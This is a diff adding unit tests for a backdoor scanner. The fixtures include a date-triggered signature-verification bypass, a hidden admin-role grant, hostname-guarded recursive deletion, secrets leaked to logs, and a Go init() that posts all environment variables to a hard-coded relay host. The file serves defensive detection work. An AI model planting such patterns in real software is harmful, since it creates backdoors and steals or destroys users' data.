@@ -213,3 +213,149 @@ test('warden scan (real CLI) reports a planted time bomb in a Ruby file and exit
   // (the line shape trigger-guard reports it when it sees it; trigger-effect otherwise: one finding per line)
   assert.match(r.stdout, /backdoor\.trigger-(?:effect|guard)/);
 });
+
+// Session 14 (issue 21): triggers and effects split across helpers, names, callers and types.
+
+test('a trigger kept in a helper that the condition calls is found (the call is not taken for a second definition) (Rust)', () => {
+  const text = [
+    'use std::time::{Duration, SystemTime, UNIX_EPOCH};',
+    'fn past() -> bool {',
+    '    SystemTime::now() > UNIX_EPOCH + Duration::from_secs(1_830_000_000)',
+    '}',
+    'pub fn verify(k: &Key, m: &[u8], s: &[u8]) -> Result<(), E> {',
+    '    if past() {',
+    '        return Ok(());',
+    '    }',
+    '    k.verify(m, s)',
+    '}',
+    '',
+  ].join('\n');
+  assert.ok(rules('upd.rs', text).includes('backdoor.trigger-effect:6'), rules('upd.rs', text).join());
+});
+
+test('a date that only zeroes a helper answer is found when the caller deletes with it, not when it only logs it (Go)', () => {
+  const helper = [
+    'package b',
+    'var stamp = "1767225600"',
+    'func keep(n int, now time.Time) int {',
+    '\tsec, _ := strconv.ParseInt(stamp, 10, 64)',
+    '\tif now.Sub(time.Unix(sec, 0)) > 24*time.Hour {',
+    '\t\treturn 0',
+    '\t}',
+    '\treturn n',
+    '}',
+  ];
+  const deletes = [
+    ...helper,
+    'func Prune(st S, all []X) {',
+    '\tk := keep(5, time.Now())',
+    '\tfor _, x := range all[k:] {',
+    '\t\tst.Delete(x.ID)',
+    '\t}',
+    '}',
+    '',
+  ];
+  const logs = [...helper, 'func Show() {', '\tslog.Info("keep", "n", keep(5, time.Now()))', '}', ''];
+  assert.ok(rules('p.go', deletes.join('\n')).includes('backdoor.trigger-effect:5'));
+  assert.deepEqual(rules('p.go', logs.join('\n')), []);
+});
+
+test('a plain user name compared renamed through a boolean still grants the admin role; a plain word that only logs does not (Java)', () => {
+  const text = [
+    'class S {',
+    '  static final String TAG = "+ops";',
+    '  List<String> roles(String login) {',
+    '    boolean ops = login.endsWith(TAG);',
+    '    List<String> r = new ArrayList<>();',
+    '    if (ops) {',
+    '      r.add("ROLE_ADMIN");',
+    '    }',
+    '    if (login.equals("kiosk")) {',
+    '      System.out.println("kiosk");',
+    '    }',
+    '    return r;',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('S.java', text), ['backdoor.trigger-effect:6']);
+});
+
+test('a CLI sub-command word guarding a wipe is not a trigger; a machine name guarding it is (TypeScript)', () => {
+  const cli =
+    "import fs from 'node:fs';\nif (process.argv[2] === 'reset') {\n  fs.rmSync(dir, { recursive: true });\n}\n";
+  const host =
+    "import fs from 'node:fs';\nimport os from 'node:os';\nif (os.hostname() !== 'build-07x') {\n  fs.rmSync(dir, { recursive: true });\n}\n";
+  assert.deepEqual(rules('cli.ts', cli), []);
+  // (the line shapes may report it first as trigger-guard: either stands on the trigger line)
+  assert.ok(
+    rules('host.ts', host).some((r) => /^backdoor\.trigger-(?:effect|guard):3$/.test(r)),
+    rules('host.ts', host).join(),
+  );
+});
+
+test('a whole object of a type with a secret field, spread into a log call, is a leak; its plain field is not (TypeScript)', () => {
+  const text = [
+    'interface Grant { user: string; refreshToken: string }',
+    'export function fail(g: Grant, log: L) {',
+    "  log.error('refresh failed', { ...g });",
+    "  log.error('refresh failed', { user: g.user });",
+    '}',
+    '',
+  ].join('\n');
+  assert.deepEqual(rules('g.ts', text), ['backdoor.secret-to-log:3']);
+});
+
+test('a secret renamed to a meaningless variable is still a leak when the format names it (pass=%s) (C)', () => {
+  const text =
+    'int f(const char *u, const char *a) {\n  syslog(LOG_NOTICE, "login user=%s pass=%s", u, a);\n  syslog(LOG_NOTICE, "login user=%s", u);\n  return 0;\n}\n';
+  assert.deepEqual(rules('f.c', text), ['backdoor.secret-to-log:2']);
+});
+
+test('the environment posted through a client object renamed to one letter, to a host written in the code, is exfiltration (Go)', () => {
+  const text = [
+    'package t',
+    'const sink = "https://t.metrics-relay.example.net/in"',
+    'func init() {',
+    '\tfor _, kv := range os.Environ() {',
+    '\t\tc.Post(sink, "text/plain", strings.NewReader(kv))',
+    '\t}',
+    '}',
+    '',
+  ].join('\n');
+  const got = rules('t.go', text);
+  assert.ok(got.includes('backdoor.secret-to-host:4') && got.includes('backdoor.secret-to-host:2'), got.join());
+});
+
+test('set -x around secret use leaks them; a runner told to mask them, or tracing switched off first, does not (bash)', () => {
+  const leaky = '#!/bin/bash\nset -x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
+  const scoped = '#!/bin/bash\nset -x\nmake\nset +x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
+  const masked =
+    '#!/bin/bash\necho "::add-mask::$DEPLOY_TOKEN"\nset -x\ncurl -H "Authorization: Bearer $DEPLOY_TOKEN" "$URL"\n';
+  assert.ok(rules('d.sh', leaky).includes('backdoor.secret-to-log:2'), rules('d.sh', leaky).join());
+  assert.ok(!rules('d.sh', scoped).some((r) => r.startsWith('backdoor.secret-to-log')), rules('d.sh', scoped).join());
+  assert.ok(!rules('d.sh', masked).some((r) => r.startsWith('backdoor.secret-to-log')), rules('d.sh', masked).join());
+});
+
+test('a huge file of plain-word comparisons in a file that grants roles, and of typed log calls, is judged within a generous time limit', () => {
+  const compares = 'if (user === "bob") { x = 1; }\n'.repeat(15_000) + 'roles.push("admin");\n';
+  const types = Array.from({ length: 300 }, (_, i) => `interface T${i}Config { apiToken: string }`).join('\n');
+  const logs = Array.from({ length: 20_000 }, (_, i) => `log.info("v", v${i % 50});`).join('\n');
+  const calls =
+    'function keep(){ if (Date.now() > 1798761600000) { return 0; } return 1; }\n' + 'keep();\n'.repeat(20_000);
+  for (const [name, text] of [
+    ['a.js', compares],
+    ['b.ts', `${types}\n${logs}`],
+    ['c.js', calls],
+  ]) {
+    const t0 = performance.now();
+    assert.doesNotThrow(() => scan(name, text));
+    assert.ok(performance.now() - t0 < 20_000, `${name} took ${performance.now() - t0} ms`);
+  }
+});
+
+test('malformed declarations (an unclosed type, a dangling multiple assignment) do not throw', () => {
+  const text = 'interface Grant { refreshToken: string\nlog.info("x", g)\nsec, := parse(\nif (sec > 1798761600) {\n';
+  assert.doesNotThrow(() => scan('m.ts', text));
+  assert.doesNotThrow(() => scan('m.go', text));
+});
